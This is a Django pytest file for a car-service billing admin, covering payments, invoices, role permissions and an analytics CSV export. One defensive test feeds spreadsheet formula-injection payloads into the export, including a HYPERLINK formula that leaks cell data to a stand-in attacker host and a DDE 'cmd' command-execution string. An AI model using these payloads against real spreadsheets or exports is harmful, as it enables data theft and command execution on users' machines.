from __future__ import annotations

import pytest
from django.test import Client

from billing.models import Invoice
from bookings.models import Appointment


def _login(persona) -> Client:
    client = Client()
    assert client.login(username=persona.email, password=persona.password)
    return client


def test_payments_page_confirm_then_revert_with_confirmation(admin, customer, make_appointment):
    appointment = make_appointment(created_user_id=customer.user_id)
    client = _login(admin)
    url = f"/admin/billing/payments/appointment/{appointment.appointment_id}/"
    page = client.get(url)
    assert page.status_code == 200
    assert b"confirm-payment-form" in page.content
    assert b"$280.00" in page.content
    response = client.post(url, {"payment_method": "bank_transfer"}, follow=True)
    assert b"Bank Transfer payment confirmed successfully" in response.content
    stored = Appointment.get(appointment.appointment_id)
    assert stored.payment_method == "bank_transfer"
    assert stored.invoice_id.encode() in response.content
    confirm_page = client.get(url + "revert/")
    assert b"No money is refunded" in confirm_page.content
    assert Appointment.get(appointment.appointment_id).payment_status == "paid"  # GET changes nothing
    client.post(url + "revert/", follow=True)
    assert Appointment.get(appointment.appointment_id).payment_status == "pending"
    assert Invoice.get(stored.invoice_id).status == "cancelled"


def test_support_sees_payments_but_cannot_confirm(support, customer, make_appointment):
    appointment = make_appointment(created_user_id=customer.user_id)
    client = _login(support)
    url = f"/admin/billing/payments/appointment/{appointment.appointment_id}/"
    assert client.get(url).status_code == 200
    assert b"confirm-payment-form" not in client.get(url).content
    assert client.post(url, {"payment_method": "cash"}).status_code == 403
    assert client.get(url + "revert/").status_code == 403
    assert Appointment.get(appointment.appointment_id).payment_status == "pending"


def test_mechanic_cannot_open_billing_pages(mechanic):
    client = _login(mechanic)
    for url in ("/admin/billing/invoices/", "/admin/billing/analytics/", "/admin/billing/invoices/new/"):
        assert client.get(url).status_code == 403


def test_invoice_list_cancel_and_reactivate(admin, customer, make_appointment):
    appointment = make_appointment(created_user_id=customer.user_id, scheduled_date="2030-01-10")
    client = _login(admin)
    client.post(f"/admin/billing/payments/appointment/{appointment.appointment_id}/", {"payment_method": "cash"})
    invoice_id = Appointment.get(appointment.appointment_id).invoice_id
    listing = client.get("/admin/billing/invoices/", {"start_date": "2030-01-01", "end_date": "2030-01-31"})
    assert invoice_id.encode() in listing.content
    client.post(f"/admin/billing/invoices/{invoice_id}/cancel/")
    assert Invoice.get(invoice_id).status == "cancelled"
    client.post(f"/admin/billing/invoices/{invoice_id}/reactivate/")
    assert Invoice.get(invoice_id).status == "generated"
    pdf = client.get(f"/admin/billing/invoices/{invoice_id}/pdf/")
    assert pdf.status_code == 302
    assert client.get(pdf["Location"]).content.startswith(b"%PDF-")
    too_long = client.get("/admin/billing/invoices/", {"start_date": "2030-01-01", "end_date": "2030-12-31"})
    assert b"at most 90 days" in too_long.content


def test_manual_invoice_wizard(admin, catalogue):
    client = _login(admin)
    step1 = {
        "name": "Walk In",
        "email": "walk@example.com",
        "make": "Mazda",
        "model": "3",
        "year": "2015",
        "payment_method": "card",
        "payment_date": "2030-02-03",
    }
    assert client.post("/admin/billing/invoices/new/", step1).status_code == 302
    empty = client.post("/admin/billing/invoices/new/items/", {"plan": ""})
    assert b"Choose a service plan or add at least one item." in empty.content
    done = client.post(
        "/admin/billing/invoices/new/items/",
        {"plan": "1:2", "item_name_1": "Wiper blades", "unit_price_1": "25.50", "quantity_1": "2"},
        follow=True,
    )
    assert b"Tax invoice 1 created." in done.content
    invoice = next(iter(Invoice.scan()))
    data = invoice.analytics_data.as_dict()["operation_data"]
    assert data["services"] == [{"service_name": "Comprehensive Pre Purchase Inspection", "price": "280"}]
    assert data["orders"] == [{"item_name": "Wiper blades", "unit_price": "25.5", "quantity": "2", "total_price": "51"}]
    assert data["effectiveDate"] == "03/02/2030"
    assert invoice.reference_type == "invoice_id"


def test_analytics_dashboard_and_csv(support, admin, customer, make_appointment):
    appointment = make_appointment(created_user_id=customer.user_id, scheduled_date="2030-01-10")
    _login(admin).post(f"/admin/billing/payments/appointment/{appointment.appointment_id}/", {"payment_method": "cash"})
    client = _login(support)
    page = client.get("/admin/billing/analytics/", {"start_date": "2030-01-01", "end_date": "2030-01-31"})
    assert page.status_code == 200
    assert page.content.count(b'class="portal-chart"') == 6
    assert b'aria-label="Revenue by payment method"' in page.content
    assert b"<title>cash: $280.00</title>" in page.content
    assert b"$280.00" in page.content
    csv_response = client.get(
        "/admin/billing/analytics/export.csv", {"start_date": "2030-01-01", "end_date": "2030-01-31"}
    )
    assert csv_response["Content-Type"] == "text/csv"
    text = csv_response.content.decode()
    assert "summary,total_revenue,280" in text
    assert "daily_revenue,2030-01-10,280" in text
    assert "vehicle_make,Toyota,1" in text
    bad = client.get("/admin/billing/analytics/export.csv", {"start_date": "2030-02-01", "end_date": "2030-01-01"})
    assert bad.status_code == 400


@pytest.mark.parametrize(
    "make",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTab",
        "\rCR",
    ],
)
def test_analytics_csv_cells_are_never_formulas(make, admin, customer, make_appointment):
    """#20.6: a car make a customer typed reaches the spreadsheet as text, with a leading '."""
    import csv
    import io

    appointment = make_appointment(created_user_id=customer.user_id, scheduled_date="2030-01-10", car_make=make)
    client = _login(admin)
    client.post(f"/admin/billing/payments/appointment/{appointment.appointment_id}/", {"payment_method": "cash"})
    response = client.get("/admin/billing/analytics/export.csv", {"start_date": "2030-01-01", "end_date": "2030-01-31"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    makes = [row for row in rows if row[0] == "vehicle_make"]
    assert makes == [["vehicle_make", "'" + make, "1"]]
    assert ["summary", "total_revenue", "280"] in rows  # numbers stay numbers


@pytest.mark.django_db(transaction=True)
def test_browser_confirm_payment_and_download_invoice(
    portal_login, live_server, settings, admin, customer, make_appointment
):
    settings.PUBLIC_BASE_URL = live_server.url  # the PDF route redirects to a file link absolute on it
    appointment = make_appointment(created_user_id=customer.user_id)
    page = portal_login(admin)
    page.set_viewport_size({"width": 390, "height": 844})  # a mechanic's phone
    page.goto(f"{live_server.url}/admin/billing/payments/appointment/{appointment.appointment_id}/")
    page.select_option("#id_payment_method", "cash")
    page.click("#confirm-payment-form input[type=submit]")
    page.wait_for_selector("text=Cash payment confirmed successfully")
    assert page.inner_text("#payment-status") == "paid"
    page.click("#record-invoices a[href*='/admin/billing/invoices/']")
    page.wait_for_selector("#invoice-card")
    pdf = page.request.get(live_server.url + page.get_attribute("#invoice-pdf", "href"))  # shares the session
    assert pdf.ok
    assert pdf.body().startswith(b"%PDF-")
    page.click("#cancel-invoice")
    page.click("#confirm-action")
    page.wait_for_selector("text=cancelled.")
    assert page.inner_text("#invoice-status") == "cancelled"


def _link(html: str, element_id: str) -> tuple[str, str] | None:
    """(href, text) of the element with ``element_id``, or None."""
    import re

    found = re.search(rf'<a [^>]*id="{element_id}" href="([^"]+)">([^<]+)</a>', html)
    return (found.group(1), found.group(2)) if found else None


@pytest.mark.parametrize(
    ("kind", "page"), [("appointment", "/admin/bookings/appointments/{}/"), ("order", "/admin/shop/orders/{}/")]
)
def test_record_pages_link_to_payment_confirm_and_revert(
    admin, support, clerk, customer, make_appointment, make_order, kind, page
):
    record = make_appointment(created_user_id=customer.user_id) if kind == "appointment" else None
    record = record or make_order(created_user_id=customer.user_id)
    record_id = record.appointment_id if kind == "appointment" else record.order_id
    payments = f"/admin/billing/payments/{kind}/{record_id}/"

    client = _login(admin)
    detail = client.get(page.format(record_id))
    assert detail.status_code == 200
    assert _link(detail.content.decode(), "payments-link") == (payments, "Confirm or revert payment")
    client.post(payments, {"payment_method": "cash"})
    paid = client.get(page.format(record_id)).content.decode()
    href, _ = _link(paid, "payments-link")
    assert href == payments
    assert _link(client.get(href).content.decode(), "revert-link") == (payments + "revert/", "Revert payment…")

    support_page = _login(support).get(page.format(record_id)).content.decode()
    assert _link(support_page, "payments-link") == (payments, "Payments and invoices")
    clerk_page = _login(clerk).get(page.format(record_id))
    assert clerk_page.status_code == 200
    assert _link(clerk_page.content.decode(), "payments-link") is None  # a clerk may not open it
    assert _login(clerk).get(payments).status_code == 403
